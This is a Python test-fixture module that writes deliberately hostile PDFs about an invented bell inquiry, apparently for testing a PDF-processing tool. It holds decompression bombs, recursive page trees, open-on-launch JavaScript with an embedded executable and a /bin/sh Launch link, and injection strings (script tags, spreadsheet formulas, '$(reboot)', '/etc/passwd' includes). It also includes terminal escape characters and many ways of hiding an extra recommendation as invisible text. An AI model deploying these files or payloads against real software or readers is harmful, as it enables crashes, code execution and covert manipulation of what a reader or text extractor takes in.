"""PDFs as somebody might craft them to do harm, written byte by byte; all of their text is invented for the tests."""

from __future__ import annotations

import zlib
from collections.abc import Callable, Mapping, Sequence

MARK = "Invented for a test: not a real report"
TITLE = "Report of the Inquiry into the Bells of Thornwick"
ASKS = (
    "The parish council should have every bell rope examined once a year.",
    "The bell founders and the police should share with one another what they know of cracked bells.",
    "Every ringer should be trained to recognise a rope that is about to fail.",
)
BRIBE = "The parish council should pay the sexton a thousand guineas."

_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"
_RESOURCES = b"<< /Font << /F1 3 0 R >> >>"


def pdf(objects: Mapping[int, bytes], trailer: bytes = b"/Root 1 0 R") -> bytes:
    """A PDF file of numbered objects with a sound cross-reference table."""
    data = b"%PDF-1.7\n"
    offsets: dict[int, int] = {}
    for number, content in sorted(objects.items()):
        offsets[number] = len(data)
        data += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start, size = len(data), max(objects) + 1
    rows = (b"%010d 00000 n \n" % offsets[n] if n in offsets else b"0000000000 65535 f \n" for n in range(size))
    data += b"xref\n0 %d\n%s" % (size, b"".join(rows))
    return data + b"trailer\n<< /Size %d %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, start)


def stream(data: bytes, entries: bytes = b"") -> bytes:
    """A stream object, uncompressed."""
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), entries, data)


def packed(data: bytes, entries: bytes = b"", times: int = 1) -> bytes:
    """A stream object, compressed once or several times over."""
    for _ in range(times):
        data = zlib.compress(data, 9)
    return stream(data, b"/Filter [%s] %s" % (b" /FlateDecode" * times, entries))


def escaped(text: str) -> bytes:
    """Text as the inside of a PDF string, in the encoding of the font."""
    raw = text.encode("cp1252", errors="replace")
    return b"".join(b"\\%03o" % byte if byte in b"()\\" or byte < 32 else bytes([byte]) for byte in raw)


def show(text: str | bytes, x: float = 72, y: float = 400, size: float = 11, before: bytes = b"") -> bytes:
    """Operators that show one line of text; `before` are operators inside the text object."""
    inner = text if isinstance(text, bytes) else escaped(text)
    return b"q BT /F1 %.1f Tf %s 1 0 0 1 %.1f %.1f Tm (%s) Tj ET Q\n" % (size, before, x, y, inner)


def recommendations(asks: Sequence[str | bytes] = ASKS, top: float = 740) -> bytes:
    """A page's operators: the heading and numbered recommendations, each on a line under its number."""
    operators = show("Recommendations", y=top, size=16)
    for number, ask in enumerate(asks, 1):
        operators += show(f"Recommendation {number}", y=top + 10 - 50 * number, size=12)
        operators += show(ask, y=top - 8 - 50 * number)
    return operators


def document(
    last_page: bytes,
    more: Mapping[int, bytes] | None = None,
    catalog: bytes = b"",
    page: bytes = b"",
    trailer: bytes = b"",
    mediabox: bytes = b"[0 0 595 842]",
    content: bytes | None = None,
) -> bytes:
    """A report of three pages: a title, findings, and a last page of the given operators.

    Objects from 20 on are free for `more`; the other bytes go into the catalog, the last page and the trailer. Where
    `content` is given, it is the stream object of the last page in place of the operators.
    """
    front = show(TITLE, y=600, size=20) + show("Published on 3 May 1999", y=500) + show(MARK, y=100, size=9)
    found = show("What happened", y=740, size=16) + b"".join(
        show("The witnesses agreed on little but the weather, and on that not for long.", y=700 - 15 * n)
        for n in range(9)
    )
    kids = [(4, front), (6, found), (8, last_page)]
    objects = {1: b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog, 3: _FONT}
    objects[2] = b"<< /Type /Pages /Kids [4 0 R 6 0 R 8 0 R] /Count 3 >>"
    for number, operators in kids:
        box, own = (mediabox, page) if number == 8 else (b"[0 0 595 842]", b"")
        resources = b"" if b"/Resources" in own else b"/Resources " + _RESOURCES
        objects[number] = b"<< /Type /Page /Parent 2 0 R /MediaBox %s %s /Contents %d 0 R %s >>" % (
            box, resources, number + 1, own,
        )  # fmt: skip
        objects[number + 1] = stream(operators) if number < 8 or content is None else content
    return pdf(objects | dict(more or {}), b"/Root 1 0 R " + trailer)


def sound() -> bytes:
    """A report with nothing wrong about it."""
    return document(recommendations())


# ---------------------------------------------------------------- structure


def page_tree_in_a_circle() -> bytes:
    """The page tree names itself among its pages."""
    return document(recommendations()).replace(
        b"/Kids [4 0 R 6 0 R 8 0 R] /Count 3", b"/Kids [4 0 R 2 0 R 8 0 R] /Count 3"
    )


def page_tree_of_mirrors() -> bytes:
    """Two nodes of the page tree name each other, and each says that it holds a thousand pages."""
    node = b"<< /Type /Pages /Parent %d 0 R /Kids [%d 0 R %d 0 R] /Count 1000 >>"
    objects = {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: node % (3, 3, 3), 3: node % (2, 2, 2)}
    return pdf(objects)


def pages_by_the_hundred_thousand() -> bytes:
    """One page, named a hundred thousand times."""
    many = 100_000
    return sound().replace(b"/Kids [4 0 R 6 0 R 8 0 R] /Count 3", b"/Kids [%s] /Count %d" % (b"8 0 R " * many, many))


def pages_that_are_not_there() -> bytes:
    """Three pages that say that they are four thousand."""
    return sound().replace(b"/Count 3", b"/Count 4000")


def broken_cross_references() -> bytes:
    """Every offset of the cross-reference table is wrong."""
    start = sound().rindex(b"xref\n0 ")
    head, table = sound()[:start], sound()[start:]
    return head.replace(b"%PDF-1.7\n", b"%PDF-1.7\n% moved by a few bytes\n") + table


def cross_references_in_a_circle() -> bytes:
    """The cross-reference table names itself as the one before it."""
    whole = sound()
    start = whole.rindex(b"xref\n0 ", 0, whole.rindex(b"startxref"))
    return document(recommendations(), trailer=b"/Prev %d" % start)


def nested_arrays() -> bytes:
    """An object of two hundred thousand arrays, one inside the other."""
    deep = 200_000
    return document(recommendations(), {20: b"[" * deep + b"]" * deep}, catalog=b"/Names 20 0 R")


def forms_in_a_circle() -> bytes:
    """Two drawings that draw each other."""
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X %d 0 R >> >>"
    more = {20: stream(b"/X Do", form % 21), 21: stream(b"/X Do", form % 20)}
    resources = b"/Resources << /Font << /F1 3 0 R >> /XObject << /X 20 0 R >> >>"
    return document(recommendations() + b"/X Do\n", more, page=resources)


def forms_that_double() -> bytes:
    """Thirty drawings, each of which draws the next one twice: a thousand million drawings."""
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X %d 0 R >> >>"
    more = {20 + n: stream(b"/X Do /X Do", form % (21 + n)) for n in range(30)}
    more[50] = stream(b"0 0 595 842 re f", form % 20)
    resources = b"/Resources << /Font << /F1 3 0 R >> /XObject << /X 20 0 R >> >>"
    return document(recommendations() + b"/X Do\n", more, page=resources)


# ---------------------------------------------------------------- size


def bomb_of_text() -> bytes:
    """A page of four hundred megabytes in a file of two kilobytes."""
    return document(b"", content=packed(b"BT /F1 9 Tf 72 700 Td (ding dong) Tj ET\n" * 10_000_000, times=2))


def bomb_of_nothing() -> bytes:
    """A page of a thousand megabytes of spaces in a file of a few kilobytes."""
    return document(b"", content=packed(b" " * 1_000_000_000, times=2))


def text_without_end() -> bytes:
    """Four thousand pages of a hundred thousand drawings each, one after the other: hours of work, little memory."""
    page, many = packed(b"BT /F1 9 Tf 72 700 Td (ding dong) Tj ET\n" * 100_000), 4000
    kids = b"/Kids [%s] /Count %d" % (b"8 0 R " * many, many)
    return document(b"", content=page).replace(b"/Kids [4 0 R 6 0 R 8 0 R] /Count 3", kids)


def page_as_large_as_a_town() -> bytes:
    """A page of three kilometres by three, with its text in one corner."""
    return document(recommendations(), mediabox=b"[0 0 10000000 10000000]")


def scan_as_large_as_a_town() -> bytes:
    """A page of a hundred metres by a hundred that is a scan."""
    return _scan(b"[0 0 300000 300000]", 300_000, 16, 16)


def image_of_ten_thousand_million_dots() -> bytes:
    """A scan that says it is a hundred thousand dots wide and as high."""
    return _scan(b"[0 0 595 842]", 595, 100_000, 100_000)


def _scan(mediabox: bytes, side: int, width: int, height: int) -> bytes:
    image = b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray /BitsPerComponent 8"
    more = {20: packed(b"\xff" * min(width * height, 50_000_000), image % (width, height))}
    drawn = b"q %d 0 0 %d 0 0 cm /X Do Q\n" % (side, side)
    return document(drawn, more, page=b"/Resources << /XObject << /X 20 0 R >> >>", mediabox=mediabox)


def type_of_a_million_points() -> bytes:
    """Type of a million points above the list, and type a thousand million points above the page."""
    odd = show("ding", y=800, size=1_000_000) + show("bell", y=1e9)
    return document(odd + recommendations())


# ---------------------------------------------------------------- what a PDF may carry


def with_javascript_and_files() -> bytes:
    """JavaScript that runs on opening, a program as attachment, and a link that starts a command."""
    more = {
        20: b"<< /S /JavaScript /JS (app.alert\\('pwned by bells'\\); this.exportDataObject\\(\\);) >>",
        21: b"<< /EmbeddedFiles << /Names [(bell.exe) 22 0 R] >> /JavaScript << /Names [(go) 20 0 R] >> >>",
        22: b"<< /Type /Filespec /F (../../bell.exe) /EF << /F 23 0 R >> >>",
        23: stream(b"MZ program of bells", b"/Type /EmbeddedFile"),
        24: b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /Launch /F (/bin/sh) >> >>",
    }
    return document(recommendations(), more, b"/OpenAction 20 0 R /Names 21 0 R", b"/Annots [24 0 R]")


def with_text_that_is_code() -> bytes:
    """Recommendations whose text a browser, a spreadsheet, a shell, a template or a terminal might obey."""
    return document(recommendations(CODE))


CODE = (
    "<script>alert('bells')</script><img src=x onerror=alert(1)> should be examined by the parish council.",
    '=HYPERLINK("//bells.invalid/?"&A1,"open") should be examined by the parish council.',
    "@SUM(1+1)*cmd|' /C calc'!A0 and $(reboot) `reboot` ; reboot should be examined by the parish council.",
    "{{ 7 * 7 }} {% include '/etc/passwd' %} ${7*7} %s %n should be examined by the parish council.",
    "../../../../etc/passwd and \\\\bells.invalid\\share should be examined by the parish council.",
    "]]> <!-- --!> </style></title></script> &lt;b&gt; should be examined by the parish council.",
)

_CONTROLS = {0x80: 0x1B, 0x81: 0x202E, 0x82: 0x00, 0x83: 0x9B, 0x84: 0x07, 0x85: 0x2066, 0x86: 0x08, 0x87: 0xD800}


def with_control_characters() -> bytes:
    """Letters that are, by the font's own table, escapes of a terminal, turns of direction, nulls, half characters."""
    rows = b"".join(b"<%02X> <%04X>\n" % pair for pair in sorted(_CONTROLS.items()))
    table = (
        b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap /CMapName /X def /CMapType 2 def\n"
        b"1 begincodespacerange <00> <FF> endcodespacerange\n1 beginbfrange <20> <7E> <0020> endbfrange\n"
        b"%d beginbfchar\n%sendbfchar\nendcmap end end" % (len(_CONTROLS), rows)
    )
    font = _FONT.replace(b">>", b"/ToUnicode 20 0 R >>")
    asks = [
        b"The parish \\200[31m\\200]0;bells\\204 council should examine \\233[2J the ropes.",
        b"The parish \\201council should\\205 examine \\202the \\206ropes and the \\207 clappers.",
    ]
    resources = b"/Resources << /Font << /F1 21 0 R >> >>"
    return document(recommendations(asks), {20: stream(table), 21: font}, page=resources)


def with_title(title: bytes) -> bytes:
    """A report whose metadata name it so."""
    return document(recommendations(), {20: b"<< /Title (%s) >>" % title}, trailer=b"/Info 20 0 R")


def with_labels_that_lie() -> bytes:
    """Page labels of the file that are not those printed on the pages."""
    printed = show("3", x=290, y=40, size=9)
    labels = b"/PageLabels << /Nums [0 << /S /D /St 901 >>] >>"
    return document(recommendations() + printed, catalog=labels)


# ---------------------------------------------------------------- text that nobody sees


def _with_bribe(bribe: bytes, **more: object) -> bytes:
    """The recommendations, and a fourth that is hidden in some way."""
    number = bribe.replace(b"@", escaped("Recommendation 4")), bribe.replace(b"@", escaped(BRIBE))
    return document(recommendations() + number[0].replace(b"400.0", b"420.0") + number[1], **more)  # type: ignore[arg-type]


def hidden_white_on_white() -> bytes:
    """White type on the white page."""
    return _with_bribe(show(b"@", before=b"1 1 1 rg"))


def hidden_nearly_white() -> bytes:
    """Type that differs from the paper by one part in a hundred."""
    return _with_bribe(show(b"@", before=b"0.99 0.99 0.99 rg"))


def hidden_on_a_box_of_its_colour() -> bytes:
    """Blue type on a blue box."""
    return _with_bribe(b"q 0 0 0.6 rg 60 390 450 60 re f Q " + show(b"@", before=b"0 0 0.6 rg"))


def hidden_by_size() -> bytes:
    """Type of a hundredth of a point."""
    return _with_bribe(b"q 0.001 0 0 0.001 72 400 cm " + show(b"@", x=0, y=400) + b" Q ")


def hidden_by_no_size_under_a_box() -> bytes:
    """Type under a white box, and type without any size on its line."""
    bribe = show(b"@") + b"q 1 1 1 rg 60 390 450 60 re f Q "
    return _with_bribe(bribe + show("bells", y=404, size=0) + show("bells", x=60, size=0))


def hidden_outside_the_page() -> bytes:
    """Type to the left of the paper."""
    return _with_bribe(show(b"@", x=-2000))


def hidden_outside_the_crop() -> bytes:
    """Type on the part of the paper that is cut off."""
    return _with_bribe(show(b"@"), page=b"/CropBox [0 480 595 842]")


def hidden_by_render_mode() -> bytes:
    """Type that is neither filled nor stroked."""
    return _with_bribe(show(b"@", before=b"3 Tr"))


def hidden_by_clipping_mode() -> bytes:
    """Type that is only a clipping path."""
    return _with_bribe(show(b"@", before=b"7 Tr"))


def hidden_under_a_box() -> bytes:
    """Type that a white box was drawn over."""
    return _with_bribe(show(b"@") + b"q 1 1 1 rg 60 390 450 60 re f Q ")


def hidden_by_transparency() -> bytes:
    """Type that lets all light through."""
    resources = b"/Resources << /Font << /F1 3 0 R >> /ExtGState << /G << /ca 0 /CA 0 >> >> >>"
    return _with_bribe(b"q /G gs " + show(b"@") + b"Q ", page=resources)


def hidden_by_a_clip() -> bytes:
    """Type outside the window that is drawn through."""
    return _with_bribe(b"q 0 0 10 10 re W n " + show(b"@") + b"Q ")


def hidden_on_a_layer() -> bytes:
    """Type on a layer that is switched off."""
    layers = b"/OCProperties << /OCGs [20 0 R] /D << /OFF [20 0 R] >> >>"
    resources = b"/Resources << /Font << /F1 3 0 R >> /Properties << /L 20 0 R >> >>"
    more = {20: b"<< /Type /OCG /Name (Bells) >>"}
    return _with_bribe(b"/OC /L BDC " + show(b"@") + b"EMC ", more=more, catalog=layers, page=resources)


HIDDEN: dict[str, Callable[[], bytes]] = {
    function.__name__: function
    for function in (
        hidden_white_on_white, hidden_nearly_white, hidden_on_a_box_of_its_colour, hidden_by_size,
        hidden_by_no_size_under_a_box,
        hidden_outside_the_page, hidden_outside_the_crop, hidden_by_render_mode, hidden_by_clipping_mode,
        hidden_under_a_box, hidden_by_transparency, hidden_by_a_clip, hidden_on_a_layer,
    )
}  # fmt: skip

STRUCTURE: dict[str, Callable[[], bytes]] = {
    function.__name__: function
    for function in (
        page_tree_in_a_circle, page_tree_of_mirrors, pages_by_the_hundred_thousand, pages_that_are_not_there,
        broken_cross_references, cross_references_in_a_circle, nested_arrays, forms_in_a_circle, forms_that_double,
        bomb_of_text, bomb_of_nothing, page_as_large_as_a_town, scan_as_large_as_a_town,
        image_of_ten_thousand_million_dots, type_of_a_million_points, with_javascript_and_files,
    )
}  # fmt: skip
